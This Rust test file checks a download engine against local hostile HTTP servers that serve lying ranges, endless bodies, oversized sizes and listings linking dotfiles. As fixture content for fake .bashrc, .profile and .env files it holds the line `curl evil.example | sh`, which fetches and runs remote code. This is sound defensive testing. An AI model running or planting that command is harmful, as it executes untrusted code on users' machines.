//! The engine against hostile servers (issue 43, "Every server safe to expose"): a server here
//! answers as an attacker would, and every test checks that nothing outside what was asked is
//! written, followed or read on.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use super::*;

/// What a hostile server saw and sent.
#[derive(Default)]
struct Seen {
    /// `PATH RANGE` of every request, in order (`-` without a range).
    asked: Mutex<Vec<String>>,
    /// Body bytes written, all answers together.
    served: AtomicU64,
}

impl Seen {
    fn asked_for(&self, path: &str) -> usize {
        let asked = self.asked.lock().unwrap();
        asked
            .iter()
            .filter(|a| a.split(' ').next() == Some(path))
            .count()
    }
}

/// One answer: its status line and headers (each ending in CRLF), its body, then `zeros` more
/// bytes of zeros (a body longer than its head says, or endless); the connection is closed
/// after it if `close`.
struct Reply {
    head: String,
    body: Vec<u8>,
    zeros: u64,
    close: bool,
}

/// A request's range: `bytes=A-B` is `(A, Some(B))`, `bytes=A-` is `(A, None)`.
type Asked = Option<(u64, Option<u64>)>;

/// How a hostile server answers a request for a path and a range.
type Answer = Arc<dyn Fn(&str, Asked) -> Reply + Send + Sync>;

/// A server answering every request with `answer(path, range)`; its base URL and what it saw.
async fn hostile(
    answer: impl Fn(&str, Asked) -> Reply + Send + Sync + 'static,
) -> (String, Arc<Seen>) {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", l.local_addr().unwrap());
    let seen = Arc::new(Seen::default());
    let answer: Answer = Arc::new(answer);
    let s2 = seen.clone();
    tokio::spawn(async move {
        while let Ok((s, _)) = l.accept().await {
            tokio::spawn(connection(s, answer.clone(), s2.clone()));
        }
    });
    (base, seen)
}

async fn connection(mut s: TcpStream, answer: Answer, seen: Arc<Seen>) {
    let mut buf = Vec::new();
    loop {
        let end = loop {
            if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                break i + 4;
            }
            let mut chunk = [0u8; 4096];
            match s.read(&mut chunk).await {
                Ok(0) | Err(_) => return,
                Ok(n) => buf.extend_from_slice(&chunk[..n]),
            }
        };
        let head = String::from_utf8_lossy(&buf[..end]).into_owned();
        buf.drain(..end);
        let path = head.split_whitespace().nth(1).unwrap_or("/").to_string();
        let range_header = head.lines().find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case("range")
                .then(|| v.trim().to_string())
        });
        let range = range_header.as_deref().and_then(|v| {
            let (a, b) = v.strip_prefix("bytes=")?.split_once('-')?;
            Some((a.parse().ok()?, b.parse().ok()))
        });
        seen.asked
            .lock()
            .unwrap()
            .push(format!("{path} {}", range_header.as_deref().unwrap_or("-")));
        let r = answer(&path, range);
        let mut out = r.head.into_bytes();
        out.extend_from_slice(b"\r\n");
        if s.write_all(&out).await.is_err() || s.write_all(&r.body).await.is_err() {
            return;
        }
        seen.served
            .fetch_add(r.body.len() as u64, Ordering::Relaxed);
        let mut left = r.zeros;
        let zeros = vec![0u8; 64 << 10];
        while left > 0 {
            let n = left.min(zeros.len() as u64);
            if s.write_all(&zeros[..n as usize]).await.is_err() {
                return;
            }
            seen.served.fetch_add(n, Ordering::Relaxed);
            left -= n;
        }
        if r.close {
            return;
        }
    }
}

/// `206` with `Content-Range: bytes A-B/TOTAL` (as given, true or not) and `body`.
fn partial(range: (u64, u64, u64), body: &[u8]) -> Reply {
    let (a, b, total) = range;
    Reply {
        head: format!(
            "HTTP/1.1 206 Partial Content\r\ncontent-range: bytes {a}-{b}/{total}\r\n\
             content-length: {}\r\n",
            body.len()
        ),
        body: body.to_vec(),
        zeros: 0,
        close: false,
    }
}

/// `200` with `body`.
fn whole(body: &[u8], content_type: &str) -> Reply {
    Reply {
        head: format!(
            "HTTP/1.1 200 OK\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\n",
            body.len()
        ),
        body: body.to_vec(),
        zeros: 0,
        close: false,
    }
}

fn not_found() -> Reply {
    Reply {
        head: "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n".into(),
        body: Vec::new(),
        zeros: 0,
        close: false,
    }
}

/// What an honest server answers for `file` and `range`.
fn honest(file: &[u8], range: Asked) -> Reply {
    let len = file.len() as u64;
    match range {
        Some((a, b)) if a < len => {
            let b = b.unwrap_or(u64::MAX).min(len - 1);
            partial((a, b, len), &file[a as usize..=b as usize])
        }
        _ => whole(file, "application/octet-stream"),
    }
}

fn bytes(n: usize, seed: u32) -> Vec<u8> {
    let mut x = seed;
    (0..n)
        .map(|_| {
            x = x.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (x >> 24) as u8
        })
        .collect()
}

/// An empty directory of its own.
fn scratch(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!(
        "roam-transfer-hostile-{name}-{}",
        std::process::id()
    ));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

/// An HTTP/1.1 engine at `cc` files and `p` streams, quick to ask again (no test here waits
/// for a silent stream: the stall timeout is long enough for a loaded machine).
fn engine(cc: u32, p: u32) -> Arc<Engine> {
    Arc::new(
        Engine::new(Params {
            cc,
            p,
            bs: 16 << 10,
            ..Params::default()
        })
        .unwrap()
        .with_retry_wait(Duration::from_millis(1))
        .with_stall_timeout(Duration::from_secs(30)),
    )
}

/// [`engine`] with one file at a time over two streams, under `limits`.
fn limited(limits: Limits) -> Arc<Engine> {
    Arc::new(
        engine(1, 2)
            .sharing(Params {
                p: 2,
                ..Params::default()
            })
            .unwrap()
            .with_limits(limits),
    )
}

async fn fetch(e: &Arc<Engine>, url: &str, out: &Path) -> FileLog {
    let spec = FileSpec::from_url(url).unwrap();
    e.run(&[spec], out).await.unwrap().files.remove(0)
}

/// Finding 1: a listing that links `.bashrc` (and `.profile`, and `.env` spelt `%2Eenv`)
/// does not get them saved into `--out` (by default the working directory, often `~`): they
/// are refused and counted. A file already in `--out` is not fetched again nor replaced
/// (not even asked for) unless the caller says so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_listings_dotfiles_are_refused_and_files_in_out_are_kept() {
    let evil = b"curl evil.example | sh\n".to_vec();
    let files: HashMap<&str, Vec<u8>> = [
        ("/d/.bashrc", evil.clone()),
        ("/d/.profile", evil.clone()),
        ("/d/.env", evil.clone()),
        ("/d/a.bin", bytes(5_000, 1)),
        ("/d/b.bin", bytes(7_000, 2)),
        ("/j/.bashrc", evil.clone()),
        ("/j/c.bin", bytes(3_000, 3)),
    ]
    .into_iter()
    .collect();
    let page = r#"<pre><a href="../">../</a> <a href=".bashrc">.bashrc</a>
<a href=".profile">.profile</a> <a href="%2Eenv">.env</a> <a href="a.bin">a.bin</a>
<a href="b.bin">b.bin</a></pre>"#;
    let json = r#"[{"name":".bashrc","type":"file","size":23},{"name":"c.bin","type":"file","size":3000}]"#;
    let served = files.clone();
    let (base, seen) = hostile(move |path, range| match path {
        "/d/" => whole(page.as_bytes(), "text/html"),
        "/j/" => whole(json.as_bytes(), "application/json"),
        p => match served.get(p) {
            Some(f) => honest(f, range),
            None => not_found(),
        },
    })
    .await;
    let out = scratch("dotfiles");
    std::fs::write(out.join(".bashrc"), "mine").unwrap();
    std::fs::write(out.join("a.bin"), "mine too").unwrap();
    let e = engine(2, 2);
    let l = e.listing(&format!("{base}/d/")).await.unwrap();
    let names: Vec<&str> = l.files.iter().map(|f| f.name.as_str()).collect();
    assert_eq!(names, ["a.bin", "b.bin"]);
    assert_eq!((l.hidden, l.skipped), (3, 1), "dotfiles counted apart");
    let r = e.run(&l.files, &out).await.unwrap();
    assert!(r.failures().is_empty(), "{:?}", r.failures());
    assert_eq!(std::fs::read(out.join(".bashrc")).unwrap(), b"mine");
    assert!(!out.join(".profile").exists() && !out.join(".env").exists());
    // The file already there is kept, and not even asked for.
    assert_eq!(std::fs::read(out.join("a.bin")).unwrap(), b"mine too");
    assert!(r.files[0].kept(), "{}", r.files[0].outcome);
    assert_eq!(seen.asked_for("/d/a.bin"), 0);
    assert_eq!(std::fs::read(out.join("b.bin")).unwrap(), files["/d/b.bin"]);
    // nginx's JSON index: the same.
    let l = e.listing(&format!("{base}/j/")).await.unwrap();
    let names: Vec<&str> = l.files.iter().map(|f| f.name.as_str()).collect();
    assert_eq!((names, l.hidden), (vec!["c.bin"], 1));
    // Asked to overwrite, the file is fetched again and replaced (atomically).
    let d = FileSpec::from_url(&format!("{base}/d/a.bin")).unwrap();
    let e = limited(Limits {
        overwrite: true,
        ..Limits::default()
    });
    let r = e.run(&[d], &out).await.unwrap();
    assert_eq!(r.files[0].outcome, "ok");
    assert_eq!(std::fs::read(out.join("a.bin")).unwrap(), files["/d/a.bin"]);
    let _ = std::fs::remove_dir_all(&out);
}

/// Finding 2: a symbolic link (or a second hard link) at `NAME.part`, at `NAME.part.ranges`,
/// or at `NAME` itself is refused: the file it points to is neither truncated nor written
/// nor appended to, and the link stays as it was.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn links_at_the_partial_or_final_path_are_refused() {
    let files: HashMap<String, Vec<u8>> = ["a", "b", "c", "d", "e"]
        .iter()
        .enumerate()
        .map(|(i, n)| (format!("/f/{n}.bin"), bytes(20_000, 40 + i as u32)))
        .collect();
    let served = files.clone();
    let (base, _) = hostile(move |path, range| match served.get(path) {
        Some(f) => honest(f, range),
        None => not_found(),
    })
    .await;
    let root = scratch("links");
    let (out, victims) = (root.join("out"), root.join("victims"));
    std::fs::create_dir_all(&out).unwrap();
    std::fs::create_dir_all(&victims).unwrap();
    let precious = |n: &str| format!("precious {n}\n").into_bytes();
    for n in ["a", "b", "c", "d", "e"] {
        std::fs::write(victims.join(n), precious(n)).unwrap();
    }
    let link = |to: &str, at: &str| std::os::unix::fs::symlink(victims.join(to), out.join(at));
    // a: the partial file a link elsewhere.
    link("a", "a.bin.part").unwrap();
    // b: a partial of the right size whose ranges file is a link (the resume path).
    std::fs::write(out.join("b.bin.part"), vec![0u8; 20_000]).unwrap();
    link("b", "b.bin.part.ranges").unwrap();
    // c: the partial file a second hard link of another file.
    std::fs::hard_link(victims.join("c"), out.join("c.bin.part")).unwrap();
    // d: the final name a link (not replaced, not followed).
    link("d", "d.bin").unwrap();
    // e: the same, though the caller asked to overwrite.
    link("e", "e.bin").unwrap();
    for (n, says) in [
        ("a", "symbolic link"),
        ("b", "symbolic link"),
        ("c", "hard link"),
        ("d", "symbolic link"),
    ] {
        for p in [1, 2] {
            let f = fetch(&engine(1, p), &format!("{base}/f/{n}.bin"), &out).await;
            assert!(f.outcome.contains(says), "{n}, p = {p}: {}", f.outcome);
            assert_eq!(std::fs::read(victims.join(n)).unwrap(), precious(n), "{n}");
        }
    }
    assert!(!out.join("a.bin").exists() && !out.join("b.bin").exists());
    assert!(!out.join("c.bin").exists());
    let e = limited(Limits {
        overwrite: true,
        ..Limits::default()
    });
    let f = fetch(&e, &format!("{base}/f/e.bin"), &out).await;
    assert!(f.outcome.contains("symbolic link"), "{}", f.outcome);
    for n in ["d", "e"] {
        let at = out.join(format!("{n}.bin"));
        assert!(at.symlink_metadata().unwrap().file_type().is_symlink());
        assert_eq!(std::fs::read(victims.join(n)).unwrap(), precious(n));
    }
    let _ = std::fs::remove_dir_all(&root);
}

/// Finding 3: a range answered with another range than the one asked (its start, its end or
/// its total size) is refused for that request: nothing of it is written, and nothing at a
/// wrong offset is listed as finished (a later run against an honest server completes the
/// file byte for byte). An answer whose Content-Length is not its range's is refused too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_range_other_than_the_one_asked_is_refused() {
    let x = Arc::new(bytes(200_000, 5));
    let n = x.len() as u64;
    let served = x.clone();
    let (base, _) = hostile(move |path, range| {
        let Some((a, Some(b))) = range else {
            return honest(&served, range);
        };
        if (a, b) == (0, 0) {
            return honest(&served, range); // the probe is answered truly
        }
        let len = b - a + 1;
        match path {
            // The first bytes of the file, said to be the first bytes: at the wrong offset.
            "/start.bin" => partial((0, len - 1, n), &served[..len as usize]),
            // A shorter range than asked, honestly labelled.
            "/end.bin" => partial((a, b - 10, n), &served[a as usize..(b - 9) as usize]),
            // Another total size.
            "/total.bin" => partial((a, b, n + 1), &served[a as usize..=b as usize]),
            // The right range, and a Content-Length for more.
            _ => {
                let mut r = partial((a, b, n), &served[a as usize..=b as usize]);
                r.head = r.head.replace(
                    &format!("content-length: {len}"),
                    &format!("content-length: {}", len + 7),
                );
                r.zeros = 7;
                r
            }
        }
    })
    .await;
    let out = scratch("ranges");
    for (name, says) in [
        ("start.bin", "bytes 0-"),
        ("end.bin", "Content-Range"),
        ("total.bin", "Content-Range"),
        ("length.bin", "Content-Length"),
    ] {
        let f = fetch(&engine(1, 2), &format!("{base}/{name}"), &out).await;
        assert!(
            f.outcome.contains(says) && f.outcome.contains(name),
            "{name}: {}",
            f.outcome
        );
        assert!(!out.join(name).exists(), "{name} claimed complete");
    }
    // What was listed as finished is true: the next run, from an honest server, completes
    // the file byte for byte from it.
    let honest_server = x.clone();
    let (fair, _) = hostile(move |_, range| honest(&honest_server, range)).await;
    let f = fetch(&engine(1, 2), &format!("{fair}/start.bin"), &out).await;
    assert_eq!(f.outcome, "ok");
    assert_eq!(std::fs::read(out.join("start.bin")).unwrap(), *x);
    let _ = std::fs::remove_dir_all(&out);
}

/// Finding 3, bodies: a one-byte probe answered with a body of hundreds of megabytes (said by
/// its Content-Length, or delimited by the connection's close) is cut off at once, by the
/// transfer and by the survey, instead of being read into memory whole.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_probe_with_an_endless_body_is_cut_off() {
    const FLOOD: u64 = 256 << 20;
    let (base, seen) = hostile(move |path, range| {
        let mut r = partial((0, 0, 100_000), b"x");
        if range != Some((0, Some(0))) {
            return not_found();
        }
        r.zeros = FLOOD;
        if path == "/closed.bin" {
            r.head = "HTTP/1.1 206 Partial Content\r\ncontent-range: bytes 0-0/100000\r\n\
                      connection: close\r\n"
                .into();
            r.close = true;
        } else {
            r.head = r.head.replace(
                "content-length: 1",
                &format!("content-length: {}", FLOOD + 1),
            );
        }
        r
    })
    .await;
    let out = scratch("flood");
    for name in ["closed.bin", "long.bin"] {
        let url = format!("{base}/{name}");
        let f = fetch(&engine(1, 2), &url, &out).await;
        assert_ne!(f.outcome, "ok", "{name}");
        let e = engine(1, 1);
        let err = e.survey(&[FileSpec::from_url(&url).unwrap()]).await;
        assert!(err.is_err(), "{name}: the survey took the flood's size");
    }
    let served = seen.served.load(Ordering::Relaxed);
    assert!(
        served < 32 << 20,
        "{served} bytes read of probes of one byte"
    );
    let _ = std::fs::remove_dir_all(&out);
}

/// Finding 4: a server announcing a size past the largest file allowed (by default) is
/// refused before anything is created or written; so is a file that would take the transfer
/// past its total, or that the disk has no room for (the error names the file and the room).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sizes_past_the_limits_or_the_disk_are_refused_before_anything_is_written() {
    // The announced size; the bytes it sends are capped at 1 MiB an answer (were they not
    // refused, a run would write that much and ask for more).
    let huge: Arc<AtomicU64> = Arc::new(AtomicU64::new(1 << 60));
    let small = Arc::new(bytes(100_000, 6));
    let (size, files) = (huge.clone(), small.clone());
    let (base, seen) = hostile(move |path, range| {
        if path.starts_with("/small/") {
            return honest(&files, range);
        }
        let n = size.load(Ordering::Relaxed);
        let (a, b) = match range {
            Some((a, b)) => (a, b.unwrap_or(n - 1)),
            None => (0, n - 1),
        };
        let mut r = partial((a, b, n), b"");
        r.head = r.head.replace(
            "content-length: 0",
            &format!("content-length: {}", b - a + 1),
        );
        r.zeros = (b - a + 1).min(1 << 20);
        r.close = true;
        r
    })
    .await;
    let out = scratch("limits");
    for p in [1, 2] {
        let f = fetch(&engine(1, p), &format!("{base}/big.bin"), &out).await;
        assert!(f.outcome.contains("largest file"), "p = {p}: {}", f.outcome);
        assert!(
            !out.join("big.bin.part").exists(),
            "p = {p}: a partial file made"
        );
    }
    // Past the disk's room, with no cap on a file's size or the total: refused, naming the
    // file and the room, before a byte is asked for. 1 PiB is more than this disk has.
    huge.store(1 << 50, Ordering::Relaxed);
    let uncapped = Limits {
        max_file_size: u64::MAX,
        max_total: u64::MAX,
        ..Limits::default()
    };
    let before = seen.asked.lock().unwrap().len();
    for p in [1, 2] {
        let e = Arc::new(
            engine(1, p)
                .sharing(Params {
                    p,
                    ..Params::default()
                })
                .unwrap()
                .with_limits(uncapped),
        );
        let f = fetch(&e, &format!("{base}/big.bin"), &out).await;
        assert!(
            f.outcome.contains("big.bin") && f.outcome.contains("free on its disk"),
            "p = {p}: {}",
            f.outcome
        );
        assert!(!out.join("big.bin.part").exists());
    }
    let asked = seen.asked.lock().unwrap()[before..].to_vec();
    assert!(
        asked
            .iter()
            .all(|a| a.ends_with("bytes=0-0") || a.ends_with("bytes=0-")),
        "only the first requests: {asked:?}"
    );
    // Three files of 100 kB with a total of 250 kB: one of them (whichever asks for its bytes
    // last: probes may run ahead of transfers) is refused, named.
    let total = Limits {
        max_total: 250_000,
        ..Limits::default()
    };
    let e = limited(total);
    let specs: Vec<FileSpec> = (0..3)
        .map(|i| FileSpec::from_url(&format!("{base}/small/s{i}.bin")).unwrap())
        .collect();
    let r = e.run(&specs, &out).await.unwrap();
    let refused: Vec<usize> = (0..3).filter(|&i| r.files[i].outcome != "ok").collect();
    assert_eq!(refused.len(), 1, "{:?}", r.files);
    let i = refused[0];
    let name = format!("s{i}.bin");
    assert!(
        r.files[i].outcome.contains(&name) && r.files[i].outcome.contains("250000"),
        "{}",
        r.files[i].outcome
    );
    assert!(!out.join(format!("{name}.part")).exists());
    let _ = std::fs::remove_dir_all(&out);
}
